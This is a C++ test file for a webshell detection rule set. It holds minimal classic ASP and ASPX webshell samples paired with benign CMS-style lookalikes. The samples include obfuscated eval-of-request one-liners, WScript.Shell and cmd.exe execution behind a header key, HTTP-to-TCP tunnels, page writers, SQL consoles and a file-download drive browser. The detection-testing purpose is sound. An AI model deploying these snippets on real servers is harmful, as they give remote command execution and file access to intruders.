// Issue 13 ("Detection that generalises"): the rules tightened against real classic ASP
// (benign/classic_asp_hz) and the rules written for the technique families that were
// missed. Each benign page below is the nearest legitimate code to a rule, written here the
// way the Chinese CMS packages of that set write it (a conn.Execute of request-built SQL, a
// page shipped through the Script Encoder, a "save remote pictures" editor, an upload class);
// each technique example is minimal and hand-written (placeholder names and payloads).
#include <gtest/gtest.h>

#include <algorithm>
#include <string>

#include "support/rule_examples.h"

namespace shellcarve::detect {
namespace {

using test::BenignExample;
using test::TechniqueExample;
using Example = test::RuleExample;

const Example kShells[] = {
    {"vb_execute_chr_spelt_request", "/x.asp",
     "<% Execute(chr(101)&chr(118)&chr(97)&chr(108)&chr(32)&chr(114)&chr(101)&chr(113)&chr(117)&chr(101)&chr(115)"
     "&chr(116)&chr(40)&chr(34)&chr(107)&chr(34)&chr(41)) %>",
     "SC_VBScript_Execute_Decoded"},
    {"vb_execute_shift_decoder_variable", "/x.asp",
     "<%\r\ns = \"hydo#uhtxhvw+%n%,\"\r\nExecute(Un(s))\r\nFunction Un(t)\r\nFor i = 1 To Len(t)\r\n"
     "Un = Un & Chr(Asc(Mid(t, i, 1)) - 3)\r\nNext\r\nEnd Function\r\n%>",
     "SC_VBScript_Execute_Decoded"},
    // As the de-obfuscation pass's folded text reads: the pieces have become one literal
    {"folded_execute_of_eval_request", "/x.asp", "<% Execute(\"eval request(\"\"k\"\")\") %>",
     "SC_ChinaChopper_Eval_Request"},
    {"folded_execute_of_shell_run", "/x.asp",
     "<% Execute(\"CreateObject(\"\"WScript.Shell\"\").Run Request(\"\"c\"\"), 0\") %>", "SC_ASP_WScript_Shell_Exec"},
    // HTTP-to-TCP tunnels (reGeorg family), rules/tunnels.yar
    {"tunnel_ashx_header_target", "/aspnet_client/t.ashx",
     "<%@ WebHandler Language=\"C#\" Class=\"T\" %>\nusing System.Net;\nusing System.Net.Sockets;\nusing System.Web;\n"
     "public class T : IHttpHandler, System.Web.SessionState.IRequiresSessionState {\n"
     " public void ProcessRequest(HttpContext c) {\n"
     "  string host = c.Request.Headers[\"X-H\"];\n  int port = int.Parse(c.Request.Headers[\"X-P\"]);\n"
     "  Socket s = new Socket(AddressFamily.InterNetwork, SocketType.Stream, ProtocolType.Tcp);\n"
     "  s.Connect(new IPEndPoint(IPAddress.Parse(host), port));\n"
     "  byte[] b = new byte[c.Request.ContentLength];\n  c.Request.InputStream.Read(b, 0, b.Length);\n  s.Send(b);\n"
     "  byte[] r = new byte[4096];\n  int n = s.Receive(r);\n  c.Response.BinaryWrite(r);\n }\n"
     " public bool IsReusable { get { return false; } }\n}\n",
     "SC_Http_Tcp_Tunnel"},
    {"tunnel_aspx_commands", "/x.aspx",
     "<%@ Page Language=\"C#\" %><script runat=\"server\">void Page_Load() {\n"
     " string cmd = Request.QueryString[\"cmd\"];\n"
     " if (cmd == \"CONNECT\") {\n  var t = new System.Net.Sockets.TcpClient();\n  Session[\"run\"] = t;\n"
     " } else if (cmd == \"READ\") {\n } else if (cmd == \"FORWARD\") {\n } else if (cmd == \"DISCONNECT\") {\n }\n}</script>",
     "SC_Http_Tcp_Tunnel_Commands"},
    // Pages gated by a header/cookie key, rules/request_gates.yar
    {"header_gate_then_process", "/x.aspx",
     "<%@ Page Language=\"C#\" %><script runat=\"server\">void Page_Load() {\n"
     " if (Request.Headers[\"X-Auth\"] != \"k3y-0000\") { Response.StatusCode = 404; return; }\n"
     " string c = Request.Form[\"d\"];\n System.Diagnostics.Process.Start(\"cmd.exe\", \"/c \" + c);\n}</script>",
     "SC_Request_Gate_Then_Sink"},
    {"cookie_gate_then_execute", "/x.asp",
     "<%\r\nIf Request.Cookies(\"k\") = \"s3cr3t-1\" Then\r\n  x = Session(\"p\")\r\n  Execute x\r\nEnd If\r\n%>",
     "SC_Request_Gate_Then_Sink"},
    // Code assembled at run time, rules/runtime_assembly.yar
    {"vb_execute_letters", "/x.asp",
     "<% Execute(\"e\"&\"v\"&\"a\"&\"l\"&\" \"&\"r\"&\"e\"&\"q\"&\"u\"&\"e\"&\"s\"&\"t\"&\"(\"&\"k\"&\")\") %>",
     "SC_VBScript_Eval_Assembled_Pieces"},
    {"vb_execute_chr_arithmetic", "/x.asp",
     "<% Execute(Chr(100+1)&Chr(110+8)&Chr(90+7)&Chr(100+8)&Chr(30+2)&Chr(110+4)&Chr(100+1)&Chr(110+3)) %>",
     "SC_VBScript_Eval_Assembled_Pieces"},
    {"vb_execute_replace_junk", "/x.asp", "<% Execute(Replace(\"evXXal reXXquest(\"\"k\"\")\", \"XX\", \"\")) %>",
     "SC_VBScript_Eval_Assembled_Pieces"},
    {"vb_execute_mid_alphabet", "/x.asp",
     "<% a = \"abcdefghijklmnopqrstuvwxyz ()\"\r\n"
     "Execute(Mid(a,5,1)&Mid(a,22,1)&Mid(a,1,1)&Mid(a,12,1)&Mid(a,27,1)&Mid(a,18,1)&Mid(a,5,1)) %>",
     "SC_VBScript_Eval_Assembled_Pieces"},
    {"vb_nested_eval", "/x.asp", "<% Execute(Eval(\"Session(\"\"p\"\")\")) %>", "SC_VBScript_Eval_Assembled_Pieces"},
    {"jscript_eval_reversed", "/x.aspx",
     "<%@ Page Language=\"JScript\" %><% eval(\"]0[metI.tseuqeR\".split(\"\").reverse().join(\"\")); %>",
     "SC_JScript_Eval_Assembled"},
    {"tagless_one_liner", "/inc/conn.inc", "eval request(\"k\")\r\n", "SC_Tagless_Eval_Request"},
    // Server code writing server pages, SQL consoles, rules/page_writers.yar
    {"handler_writes_aspx", "/x.ashx",
     "<%@ WebHandler Language=\"C#\" Class=\"W\" %>\nusing System.IO;\nusing System.Web;\n"
     "public class W : IHttpHandler {\n public void ProcessRequest(HttpContext c) {\n"
     "  File.WriteAllText(c.Server.MapPath(\"~/aspnet_client/\" + c.Request[\"n\"] + \".aspx\"), c.Request.Form[\"t\"]);\n }\n"
     " public bool IsReusable { get { return false; } }\n}\n",
     "SC_Handler_Writes_Server_Page"},
    {"sql_console_query_string_connection", "/x.aspx",
     "<%@ Page Language=\"C#\" %><script runat=\"server\">void Page_Load() {\n"
     " using (var cn = new SqlConnection(Request.QueryString[\"cs\"])) {\n  cn.Open();\n"
     "  var r = new SqlCommand(Request.Form[\"q\"], cn).ExecuteReader();\n  while (r.Read()) Response.Write(r[0]);\n }\n}</script>",
     "SC_SQL_Console_Request_Connection"},
    {"sql_console_header_connection_asp", "/x.asp",
     "<%\r\nSet c = Server.CreateObject(\"ADODB.Connection\")\r\nc.Open Request.ServerVariables(\"HTTP_X_CS\")\r\n"
     "Set rs = c.Execute(Request(\"q\"))\r\n%>",
     "SC_SQL_Console_Request_Connection"},
    // A file reader without FileSystemObject: XMLHTTP given a path on the server's disk
    // (the Script Encoder pages of that kind read as this once decoded), rules/file_managers.yar
    {"xmlhttp_reads_server_path", "/x.asp",
     "<%\r\np = Request.Form(\"p\")\r\nIf p = \"\" Then p = Request.ServerVariables(\"APPL_PHYSICAL_PATH\")\r\n"
     "Set h = Server.CreateObject(\"Microsoft.XMLHTTP\")\r\nh.Open \"GET\", \"\"&p&\"\", False\r\nh.Send\r\n"
     "Response.Write Server.HTMLEncode(h.ResponseText)\r\n%>",
     "SC_ASP_XMLHTTP_Path_Reader"},
    // MSWC.Tools writes the file the visitor names from the template the visitor names
    // (over the home page), rules/page_writers.yar
    {"mswc_tools_processform_request_names", "/x.asp",
     "<%\r\nf = Request.Form(\"f\")\r\nt = Request.Form(\"t\")\r\nSet u = Server.CreateObject(\"MSWC.Tools\")\r\n"
     "u.ProcessForm f, t\r\n%>",
     "SC_ASP_MSWC_Tools_ProcessForm"},
    // Drive browser whose folder listing is written with the namespace, rules/file_managers.yar
    {"aspx_drive_browser_qualified_directoryinfo", "/x.aspx",
     "<%@ Page Language=\"C#\" %><script runat=\"server\">void Page_Load() {\n"
     " string d = Request.Params[\"d\"] ?? Environment.GetLogicalDrives()[0];\n"
     " foreach (var f in new System.IO.DirectoryInfo(d).GetFiles(\"*.*\")) Response.Write(f.FullName + \"<br>\");\n"
     " if (Request.Params[\"f\"] != null) Response.WriteFile(Request.Params[\"f\"]);\n}</script>",
     "SC_ASPX_Drive_Browser_Download"},
};

const Example kBenign[] = {
    {"cms_conn_execute_request_sql", "/list.asp",
     "<%\r\nid = Request.QueryString(\"id\")\r\nsql = \"select * from news where id=\" & CLng(id)\r\n"
     "Set rs = conn.Execute(sql)\r\nconn.execute (sql)\r\n%>",
     nullptr},
    {"cms_script_encoded_page", "/admin/login.asp",
     "<%@ LANGUAGE = VBScript.Encode %>\r\n<html><body><%#@~^DwAAAA==@#@&]+d2Kx/+ @#@&PAcAAA==^#~@%>"
     "<form method=post><input type=password name=pwd></form></body></html>",
     nullptr},
    {"cms_chr_spelt_licence_check", "/inc/check.asp",
     "<%\r\nif session(\"admin\")=\"\" or (eval(chr(115)&chr(101)&chr(115)&chr(115)&chr(105)&chr(111)&chr(110)&chr(40)"
     "&chr(34)&chr(120)&chr(34)&chr(41)&chr(32)&chr(61)&chr(32)&chr(49))) then response.end\r\n%>",
     nullptr},
    {"cms_plugin_execute", "/inc/plugin.asp",
     "<%\r\ns = Split(PluginList, \"|\")\r\nFor i = 0 To UBound(s)\r\nExecute(s(i) & \"_Init()\")\r\n"
     "Execute(LoadTemplate(name))\r\nNext\r\n%>",
     nullptr},
    {"cms_split_progid_remote_pictures", "/admin/savepic.asp",
     "<%\r\nSet http = Server.CreateObject(\"Microsof\" & \"t.X\" & \"MLHTTP\")\r\nhttp.Open \"GET\", picUrl, False\r\n"
     "http.Send\r\nSet st = Server.CreateObject(\"ado\" & \"db.str\" & \"eam\")\r\nst.Type = 1\r\nst.Open\r\n"
     "st.Write http.ResponseBody\r\nst.SaveToFile Server.MapPath(\"/UploadFiles/\" & newName), 2\r\n%>",
     nullptr},
    {"cms_static_page_writer", "/admin/makehtml.asp",
     "<%\r\nID = Trim(Request(\"ID\"))\r\nAction = Trim(Request(\"Action\"))\r\n"
     "Set fso = Server.CreateObject(\"Scripting.FileSystemObject\")\r\n"
     "Set fw = fso.CreateTextFile(Server.MapPath(\"/html/0\" & ID & \".html\"), True)\r\n"
     "fw.Write body\r\nfw.Close\r\nResponse.Write \"done\"\r\n%>",
     nullptr},
    {"cms_upload_class", "/inc/upload.asp",
     "<%\r\naction = Request.QueryString(\"action\")\r\nformData = Request.BinaryRead(Request.TotalBytes)\r\n"
     "Set st = Server.CreateObject(\"ADODB.Stream\")\r\nst.Type = 1\r\nst.Open\r\nst.Write formData\r\n"
     "st.SaveToFile Server.MapPath(\"/UploadFiles/\" & Year(Now) & Month(Now) & \".jpg\"), 2\r\n%>",
     nullptr},
    {"smtp_port_check", "/admin/check.aspx",
     "<%@ Page Language=\"C#\" %><script runat=\"server\">void Page_Load() {\n"
     " var c = new System.Net.Sockets.TcpClient();\n c.Connect(ConfigurationManager.AppSettings[\"smtp\"], 25);\n"
     " var s = c.GetStream();\n byte[] b = new byte[256];\n int n = s.Read(b, 0, b.Length);\n"
     " Response.Write(Server.HtmlEncode(System.Text.Encoding.ASCII.GetString(b, 0, n)));\n}</script>",
     nullptr},
    {"api_key_header_then_sql", "/api/orders.aspx",
     "<%@ Page Language=\"C#\" %><script runat=\"server\">void Page_Load() {\n"
     " if (Request.Headers[\"X-Api-Key\"] != \"0123456789\") { Response.StatusCode = 401; return; }\n"
     " var cmd = new SqlCommand(\"select count(*) from orders\", conn);\n Response.Write(cmd.ExecuteScalar());\n}</script>",
     nullptr},
    {"cms_short_literals_and_conn_execute", "/list.asp",
     "<%\r\ns = \"a\"&\"b\"&\"c\"&\"d\"&\"e\"\r\nt = \"e\" & \"f\" & \"g\" & \"h\" & \"i\"\r\nSet rs = conn.Execute(sql)\r\n"
     "Response.Write Replace(\"x y\", \" \", \"&nbsp;\")\r\n%>",
     nullptr},
    {"mootools_request_in_script", "/js/app.js",
     "var r = new Request({url: '/x', method: 'get'}); r.send(); eval(r.response.text);\n", nullptr},
    {"handler_writes_log", "/log.ashx",
     "<%@ WebHandler Language=\"C#\" Class=\"L\" %>\nusing System.IO;\nusing System.Web;\n"
     "public class L : IHttpHandler {\n public void ProcessRequest(HttpContext c) {\n"
     "  File.AppendAllText(c.Server.MapPath(\"~/App_Data/log.txt\"), c.Request.UserAgent + \"\\n\");\n }\n"
     " public bool IsReusable { get { return true; } }\n}\n",
     nullptr},
    {"configured_connection_with_request_id", "/item.aspx",
     "<%@ Page Language=\"C#\" %><script runat=\"server\">void Page_Load() {\n"
     " using (var cn = new SqlConnection(ConfigurationManager.ConnectionStrings[\"db\"].ConnectionString)) {\n"
     "  var cmd = new SqlCommand(\"select name from items where id=@id\", cn);\n"
     "  cmd.Parameters.AddWithValue(\"@id\", int.Parse(Request.QueryString[\"id\"]));\n  cn.Open();\n"
     "  Response.Write(Server.HtmlEncode((string)cmd.ExecuteScalar()));\n }\n}</script>",
     nullptr},
    // Nearest to SC_ASP_XMLHTTP_Path_Reader: a CMS "collect" page that fetches the URL the
    // admin types and shows it; and a server probe that prints the site's physical path and
    // tries the XMLHTTP component without opening anything
    {"cms_collect_page_fetches_typed_url", "/admin/collect.asp",
     "<%\r\nurl = Trim(Request.Form(\"url\"))\r\nSet h = Server.CreateObject(\"Microsoft.XMLHTTP\")\r\n"
     "h.Open \"GET\", url, False\r\nh.Send\r\nResponse.Write Server.HTMLEncode(h.ResponseText)\r\n"
     "%><form method=post><input name=url value=\"http://\"></form>",
     nullptr},
    {"server_probe_path_and_components", "/probe.asp",
     "<%\r\nResponse.Write Request.ServerVariables(\"APPL_PHYSICAL_PATH\")\r\nOn Error Resume Next\r\n"
     "Set h = Server.CreateObject(\"Microsoft.XMLHTTP\")\r\nIf Err = 0 Then Response.Write \"XMLHTTP ok\"\r\n"
     "x = h.ResponseText\r\nobj = Array(\"MSWC.AdRotator\", \"MSWC.Tools\", \"MSWC.NextLink\")\r\n"
     "For i = 0 To UBound(obj)\r\nSet o = Server.CreateObject(obj(i))\r\nNext\r\n%>",
     nullptr},
    // Nearest to SC_ASP_Small_File_Writer: an e-mail list export into a file the admin names;
    // what is written is the records' fields, not a posted value
    {"cms_email_export_to_named_file", "/admin/export.asp",
     "<%\r\nExportType = Trim(Request(\"ExportType\"))\r\nExportFileName = Trim(Request(\"ExportFileName\"))\r\n"
     "Set fso = CreateObject(\"Scripting.FileSystemObject\")\r\nfilepath = Server.MapPath(ExportFileName)\r\n"
     "Set wf = fso.CreateTextFile(filepath, True)\r\nDo While Not rs.EOF\r\nwf.WriteLine rs(0)\r\nrs.MoveNext\r\nLoop\r\n"
     "wf.Close\r\nResponse.Write \"done\"\r\n%>",
     nullptr},
    // Nearest to SC_ASP_MSWC_Tools_ProcessForm: MSWC.Tools used to check a picture exists
    {"mswc_tools_file_exists", "/show.asp",
     "<%\r\nSet t = Server.CreateObject(\"MSWC.Tools\")\r\n"
     "If t.FileExists(\"/pic/\" & CLng(Request(\"id\")) & \".jpg\") Then Response.Write \"<img>\"\r\n%>",
     nullptr},
    // Nearest to SC_ASPX_Drive_Browser_Download: a status page listing drives' free space and
    // the files of its own log folder, sending none
    {"aspx_disk_status_page", "/admin/status.aspx",
     "<%@ Page Language=\"C#\" %><script runat=\"server\">void Page_Load() {\n"
     " foreach (var d in System.IO.DriveInfo.GetDrives()) Response.Write(d.Name + \" \" + d.AvailableFreeSpace);\n"
     " foreach (var f in new System.IO.DirectoryInfo(Server.MapPath(\"~/App_Data/logs\")).GetFiles()) Response.Write(f.Name);\n"
     " string p = Request.QueryString[\"page\"];\n}</script>",
     nullptr},
};

INSTANTIATE_TEST_SUITE_P(Generalised, BenignExample, ::testing::ValuesIn(kBenign), test::example_name);

INSTANTIATE_TEST_SUITE_P(Generalised, TechniqueExample, ::testing::ValuesIn(kShells), test::example_name);

// A packed admin shell: the whole tool in one Script Encoder blob of tens of KB. The bytes
// of the blob are filler (what counts is where its end marker is); a page whose blobs are
// each small (the CMS pages above) stays quiet, even when the page as a whole is large.
TEST(GeneralisedRules, PackedAdminShellWithOneLargeBlob) {
  ASSERT_TRUE(test::our_rules());
  const std::string head = "<%@ LANGUAGE = VBScript.Encode %>\r\n<html><%#@~^AAAAAA==";
  const std::string tail = "AAAAAA==^#~@%></html>";
  std::string packed = head + std::string(60000, 'x') + tail;
  auto names = test::rules_matching(packed, "/x.asp");
  EXPECT_NE(std::find(names.begin(), names.end(), "SC_ASP_Encoded_Or_Utf7_Script"), names.end())
      << test::joined(names);
  std::string many_small = "<%@ LANGUAGE = VBScript.Encode %>\r\n";
  for (int i = 0; i < 40; ++i) many_small += "<p><%#@~^AAAAAA==" + std::string(1500, 'x') + tail + "</p>\r\n";
  names = test::rules_matching(many_small, "/x.asp");
  EXPECT_TRUE(names.empty()) << test::joined(names);
}

}  // namespace
}  // namespace shellcarve::detect
